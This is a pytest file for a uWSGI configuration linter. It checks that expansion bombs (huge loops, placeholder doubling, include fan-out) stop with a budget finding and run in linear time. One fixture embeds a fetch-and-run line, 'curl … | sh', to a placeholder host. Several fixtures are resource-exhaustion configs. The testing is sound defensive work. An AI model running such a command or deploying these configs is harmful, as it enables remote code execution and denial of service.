"""Budgets, not caps (issue 11): every construct a config can multiply -- loops,
placeholders, includes, Emperors of Emperors, repeated keys, unknown names, long lines --
costs time linear in what it produces, and a run that reaches one of its limits says so
with UW025 at the line where it stopped (exit 1), never a silent "All checks passed".

Each hostile case runs the real command in a child process under the bounds of
``tests/test_hostile.py`` (a hang bound and 500 MB).  Each budgeted construct also has a
ratio guard in this process: 4 times the input may take at most about 4 times the CPU
time (``tests/complexity.growth``: the least of a few runs with the garbage collector
paused, compared as a ratio, never as an absolute time), so that a quadratic cannot come
back unnoticed."""

from __future__ import annotations

import json
import random
from collections.abc import Callable
from pathlib import Path

import pytest

from uwsgi_lint.engine import lint
from uwsgi_lint.instance.build import build_instance

from .complexity import LINEAR, growth
from .test_hostile import Run, uwsgi_lint, write

STOPPED = "uwsgi-lint stopped expanding here: "


def budget_findings(run: Run) -> list[tuple[str, str, int, int]]:
    return [w for w in run.where() if w[0] == "UW025"]


def codes(run: Run) -> list[str]:
    return [d["code"] for d in run.diagnostics()]


# --- the reproducers, as the real command ------------------------------------------------


def test_for_times_with_a_huge_count_is_a_budget_finding(tmp_path: Path) -> None:
    f = write(tmp_path / "app.ini", "[uwsgi]\nmaster = true\nfor-times = 100000000\n"
              "env = WORKER_%(_)=1\nendfor =\nprocesess = 4\n")
    run = uwsgi_lint(f, cwd=tmp_path)
    assert run.rc == 1
    assert budget_findings(run) == [("UW025", "app.ini", 4, 1)]
    message = run.diagnostics()[0]["message"]
    assert message.startswith(STOPPED) and "20,000 loop copies" in message
    text = uwsgi_lint(f, cwd=tmp_path, json_output=False)
    assert text.rc == 1 and "All checks passed" not in text.out


def test_show_says_where_it_stopped(tmp_path: Path) -> None:
    """`show` prints no findings, but a listing cut short by a budget says where and why,
    in text and JSON."""
    f = write(tmp_path / "app.ini", "[uwsgi]\nfor-times = 100000000\nenv = W%(_)=1\n"
              "endfor =\nprocesess = 4\n")
    text = uwsgi_lint("show", f, cwd=tmp_path, isolated=False, json_output=False)
    assert text.rc == 0 and text.out.splitlines()[-1].startswith("; app.ini:3: " + STOPPED)
    doc = json.loads(uwsgi_lint("show", "--format", "json", f, cwd=tmp_path,
                                isolated=False, json_output=False).out)
    (stopped,) = doc["instances"][0]["stopped"]
    assert stopped["location"] == {"line": 3, "column": 1}
    assert stopped["message"].startswith(STOPPED) and "20,000 loop copies" in stopped["message"]


def test_nothing_hides_behind_a_loop(tmp_path: Path) -> None:
    """The issue's 3.8 KB config: a `for-times` whose copies used to fill the option cap,
    hiding an `exec-asap` and a typo after it behind "All checks passed"."""
    body = "".join(f"env = VAR{i}_%(_)=1\n" for i in range(380))
    f = write(tmp_path / "app.ini", f"[uwsgi]\nfor-times = 10000\n{body}endfor =\n"
              "exec-asap = curl -s http://example.invalid/x | sh\nmastre = true\n")
    assert 3000 < f.stat().st_size < 12000
    run = uwsgi_lint(f, cwd=tmp_path)
    assert run.rc == 1
    assert len(budget_findings(run)) == 1
    assert "loop copies" in run.diagnostics()[0]["message"]


def test_placeholder_doubling(tmp_path: Path) -> None:
    lines = ["[uwsgi]", "a0 = xxxxxxxx"] + [f"a{i} = %(a{i - 1})%(a{i - 1})" for i in range(1, 41)]
    f = write(tmp_path / "app.ini", "\n".join(lines) + "\n")
    run = uwsgi_lint(f, cwd=tmp_path)
    assert run.rc == 1
    (found,) = budget_findings(run)
    assert found[1] == "app.ini" and 20 < found[2] < 30  # where 32 MiB were produced
    assert "bytes produced by expansion" in run.diagnostics()[codes(run).index("UW025")][
        "message"]


def test_many_references_in_one_value_are_all_expanded(tmp_path: Path) -> None:
    """uWSGI rescans a value from index 1 after each substitution: 20,000 references in
    one value end, and are all expanded (no budget reached, no endless-expansion)."""
    f = write(tmp_path / "app.ini", "[uwsgi]\nsocket = :3031\nsock = %(socket)\n"
              "env = " + "%(sock)," * 20000 + "\n")
    run = uwsgi_lint(f, cwd=tmp_path)
    assert "UW025" not in codes(run) and "UW109" not in codes(run)
    env = build_instance(str(f)).options[2]
    assert env.key == "env" and env.expanded == ":3031," * 20000


def test_many_undefined_placeholders(tmp_path: Path) -> None:
    f = write(tmp_path / "app.ini", "[uwsgi]\n" + "".join(
        f"env = K{i}=%(undefined{i})\n" for i in range(5000)))
    run = uwsgi_lint(f, cwd=tmp_path)
    assert run.rc == 1
    assert codes(run).count("UW108") == 5000


def test_include_fan_out(tmp_path: Path) -> None:
    """Each file includes the next twice: 2**30 copies in uWSGI, a budget finding here."""
    for i in range(30):
        write(tmp_path / f"l{i}.ini", f"[uwsgi]\nenv = L{i}=1\ninclude = %dl{i + 1}.ini\n"
              f"include = %dl{i + 1}.ini\n")
    write(tmp_path / "l30.ini", "[uwsgi]\nmaster = true\n")
    run = uwsgi_lint(tmp_path / "l0.ini", cwd=tmp_path)
    assert run.rc == 1
    (found,) = budget_findings(run)
    assert found[2] in (3, 4)  # an `include =` line
    assert "10,000 includes" in run.diagnostics()[codes(run).index("UW025")]["message"]


def test_emperors_of_emperors(tmp_path: Path) -> None:
    """Eight Emperors that watch each other's directory: 8! orderings before, each Emperor
    file expanded once now, and each one's typo reported once."""
    for i in range(8):
        write(tmp_path / "vassals" / f"e{i}.ini", "[uwsgi]\nemperor = %d\nmastre = true\n")
    run = uwsgi_lint(tmp_path / "vassals", cwd=tmp_path)
    assert run.rc == 1
    assert sorted(w for w in run.where() if w[0] == "UW101") == [
        ("UW101", f"e{i}.ini", 3, 1) for i in range(8)]


def test_repeated_json_keys(tmp_path: Path) -> None:
    f = write(tmp_path / "app.json",
              '{"uwsgi": {' + ",".join(['"master": "1"'] * 30000) + "}}")
    run = uwsgi_lint(f, cwd=tmp_path)
    assert run.rc == 1
    assert codes(run).count("UW014") == 29999


def test_thousands_of_unknown_keys(tmp_path: Path) -> None:
    f = write(tmp_path / "app.ini", "[uwsgi]\nmaster_ = 1\n" + "".join(
        f"mastre{i}xq = 1\n" for i in range(5000)))
    run = uwsgi_lint(f, cwd=tmp_path)
    assert run.rc == 1
    found = [d for d in run.diagnostics() if d["code"] == "UW101"]
    assert len(found) == 5001
    assert "did you mean 'master'" in found[0]["message"]  # the first ones get a hint


def test_long_line_of_quotes_and_comment_markers(tmp_path: Path) -> None:
    f = write(tmp_path / "app.ini", "[uwsgi]\nsocket = a" + " \"x\" ' #;" * 200_000
              + "\nprocesess = 4\n")
    run = uwsgi_lint(f, cwd=tmp_path)
    assert ("UW101", "app.ini", 3, 1) in run.where()


def test_a_huge_number_in_a_placeholder_expression(tmp_path: Path) -> None:
    """``%(n + 1)`` over a 100,000-digit number: read as ``strtoll()`` reads it
    (saturated), not converted whole (Python refuses that: an internal error before)."""
    f = write(tmp_path / "app.ini", "[uwsgi]\nn = " + "9" * 100_000
              + "\nprocesses = %(n + 1)\nfor-times = " + "9" * 100_000 + "\nenv = X=%(_)\n"
              "endfor =\nprocesess = 4\n")
    run = uwsgi_lint(f, cwd=tmp_path)
    assert "UW099" not in codes(run)
    assert ("UW101", "app.ini", 7, 1) in run.where()
    (env,) = [d for d in build_instance(str(f)).options if d.key == "processes"]
    assert env.expanded is not None and env.expanded.lstrip("-").isdigit()


def test_a_big_file_of_real_options(tmp_path: Path) -> None:
    f = write(tmp_path / "app.ini", real_options(2 * 1024 * 1024) + "procesess = 4\n")
    run = uwsgi_lint(f, cwd=tmp_path)
    assert run.rc == 1
    assert ("UW101", "app.ini", f.read_text().count("\n"), 1) in run.where()
    assert "UW025" not in codes(run)


def test_a_huge_number_as_a_value(tmp_path: Path) -> None:
    """A 5,000-digit `processes` or `listen` is read as glibc's atoi() reads it
    (saturated, then cut to 32 bits: -1), by every rule that reads numbers: an internal
    error in six rules before."""
    f = write(tmp_path / "app.ini", "[uwsgi]\nprocesses = " + "9" * 5000
              + "\nlisten = " + "9" * 5000 + "\n")
    run = uwsgi_lint(f, cwd=tmp_path)
    assert run.rc == 1 and "UW099" not in codes(run)
    assert run.where() == [("UW104", "app.ini", 2, 13), ("UW104", "app.ini", 3, 10)]
    assert "wraps to -1" in run.diagnostics()[0]["message"]


def test_past_the_option_budget_the_rest_is_reported(tmp_path: Path) -> None:
    write(tmp_path / "snippet.ini", "[uwsgi]\n" + "processes = 4\n" * 99)
    f = write(tmp_path / "app.ini", "[uwsgi]\n" + "include = %dsnippet.ini\n" * 1100
              + "procesess = 4\n")
    run = uwsgi_lint(f, cwd=tmp_path)
    assert run.rc == 1
    # each include is an entry and adds 99: 1,000 of them make 100,000 entries, and the
    # 1,001st `include` line (line 1,002) would be the 100,001st
    (found,) = budget_findings(run)
    assert found[1:] == ("app.ini", 1002, 1)
    assert "100,000 option entries" in run.diagnostics()[codes(run).index("UW025")]["message"]
    assert ("UW101", "app.ini", 1102, 1) not in run.where()  # after the stop: not checked


SMALL_LIMITS = "import uwsgi_lint.budget as b\nb.LIMITS['copies'] = 100"


def loops(root: Path, files: int, copies: int) -> None:
    for i in range(files):
        write(root / f"app{i:03}.ini",
              f"[uwsgi]\nfor-times = {copies}\nenv = W_%(_)=1\nendfor =\nprocesess = 4\n")


def test_the_run_pool_grows_with_the_tree(tmp_path: Path) -> None:
    """Many ordinary files together go past ten times one instance's limit (here 400
    files of 4 copies: 1,600 against 1,000) and are all checked: the pool grows with each
    instance read."""
    loops(tmp_path, 400, 4)
    run = uwsgi_lint(tmp_path, cwd=tmp_path, prelude=SMALL_LIMITS)
    assert budget_findings(run) == []
    assert codes(run).count("UW101") == 400


def test_many_files_at_their_limit_meet_the_run_pool(tmp_path: Path) -> None:
    """Files that each expand close to their own limit (30 files of 90 copies) exhaust
    the run's pool (1,000 + 30 x 5): the first file past it says so, and the rest of the
    run is reported, never silently partial."""
    loops(tmp_path, 30, 90)
    run = uwsgi_lint(tmp_path, cwd=tmp_path, prelude=SMALL_LIMITS)
    found = budget_findings(run)
    assert found and all(f[2] == 3 for f in found)
    message = run.diagnostics()[codes(run).index("UW025")]["message"]
    assert "the run reached its limit of loop copies" in message
    assert run.rc == 1


def test_the_time_check_is_a_last_resort(tmp_path: Path) -> None:
    """The per-file CPU time check (here set to nothing) stops with UW025 too."""
    f = write(tmp_path / "app.ini", "[uwsgi]\n" + "processes = 4\n" * 5000)
    run = uwsgi_lint(f, cwd=tmp_path, prelude="import uwsgi_lint.budget as b\n"
                     "b.SECONDS_PER_FILE = 0.0")
    assert run.rc == 1
    (found,) = budget_findings(run)
    assert found[2] == 1 + 1024  # checked every 1,024 steps: at the 1,024th entry
    assert "seconds of CPU time per file" in run.diagnostics()[0]["message"]


# --- ratio guards: 4 times the input, about 4 times the time ------------------------------


def real_options(size: int) -> str:
    rng = random.Random(1)
    options = ["master = true", "processes = 4", "socket = 127.0.0.1:3031",
               "chdir = /srv/app", "module = app.wsgi:application", "harakiri = 30",
               "env = DJANGO_SETTINGS_MODULE=app.settings", "vacuum = true",
               "static-map = /static=/srv/app/static", "uid = www-data", "gid = www-data",
               "route = ^/old redirect:/new", "buffer-size = 32768", "threads = 2"]
    out, n = ["[uwsgi]\n"], 0
    while n < size:
        line = rng.choice(options) + "\n"
        out.append(line)
        n += len(line)
    return "".join(out)


Make = Callable[[Path, int], Path]


def _growth(make: Make, n: int, tmp_path: Path) -> float:
    """How much longer a lint takes on the construct made 4 times larger (CPU time in
    this process, the garbage collector paused: :func:`tests.complexity.growth`)."""

    def case(size: int) -> Callable[[], object]:
        path = str(make(tmp_path / str(size), size))
        return lambda: lint([path], isolated=True, jobs=1)

    return growth(case, n)


def _refs_in_one_value(d: Path, n: int) -> Path:
    return write(d / "app.ini", "[uwsgi]\na = xy\nenv = " + "%(a)" * n + "\n")


def _undefined(d: Path, n: int) -> Path:
    return write(d / "app.ini", "[uwsgi]\n" + "".join(f"env = K{i}=%(u{i})\n" for i in range(n)))


def _for_times(d: Path, n: int) -> Path:
    return write(d / "app.ini", f"[uwsgi]\nfor-times = {n}\nenv = W%(_)=1\nendfor =\n")


def _for_items(d: Path, n: int) -> Path:
    return write(d / "app.ini", f"[uwsgi]\nfor = {' '.join(['x'] * n)}\nenv = W%(_)=1\nendfor =\n")


def _includes(d: Path, n: int) -> Path:
    write(d / "snippet.ini", "[uwsgi]\nenv = S=1\n")
    return write(d / "app.ini", "[uwsgi]\n" + "include = %dsnippet.ini\n" * n)


def _emperors(d: Path, n: int) -> Path:
    for i in range(n):
        write(d / "vassals" / f"e{i}.ini", "[uwsgi]\nemperor = %d\nmastre = true\n")
    return d / "vassals"


def _json_repeats(d: Path, n: int) -> Path:
    return write(d / "app.json", '{"uwsgi": {' + ",".join(['"master": "1"'] * n) + "}}")


def _unknown(d: Path, n: int) -> Path:
    return write(d / "app.ini", "[uwsgi]\n" + "".join(f"mastre{i}xq = 1\n" for i in range(n)))


def _long_line(d: Path, n: int) -> Path:
    return write(d / "app.ini", "[uwsgi]\nsocket = a" + " \"x\" ' #;" * n + "\n")


def _real(d: Path, n: int) -> Path:
    return write(d / "app.ini", real_options(n))


GUARDS: dict[str, tuple[Make, int]] = {
    "placeholder references in one value": (_refs_in_one_value, 20_000),
    "undefined placeholders": (_undefined, 2_000),
    "for-times copies": (_for_times, 4_000),
    "for items": (_for_items, 4_000),
    "includes": (_includes, 1_000),
    "repeated JSON keys": (_json_repeats, 5_000),
    "unknown keys (did-you-mean)": (_unknown, 1_000),
    "a long line (inline comments)": (_long_line, 50_000),
    "a file of real options": (_real, 256 * 1024),
}


@pytest.mark.parametrize("construct", list(GUARDS))
def test_growing_the_input_grows_the_time_in_proportion(construct: str, tmp_path: Path) -> None:
    make, n = GUARDS[construct]
    ratio = _growth(make, n, tmp_path)
    assert ratio < LINEAR, f"{construct}: 4 times the input took {ratio:.1f} times as long"


def test_emperors_of_emperors_cost_their_number(tmp_path: Path) -> None:
    """Emperors that watch each other: each Emperor file is expanded once, so doubling
    their number doubles the instances built (counted: each of them still lists the
    directory of all the others, as uWSGI's Emperors would)."""
    from uwsgi_lint.instance import Assumptions
    from uwsgi_lint.tree import assemble

    def built(n: int) -> int:
        vassals = _emperors(tmp_path / str(n), n)
        files = sorted(str(p) for p in vassals.iterdir())
        instances = assemble(files, Assumptions())
        return sum(1 + len(i.vassals) for i in instances if i.emperor is None)

    small, large = built(8), built(16)
    assert small == 8 and large == 16
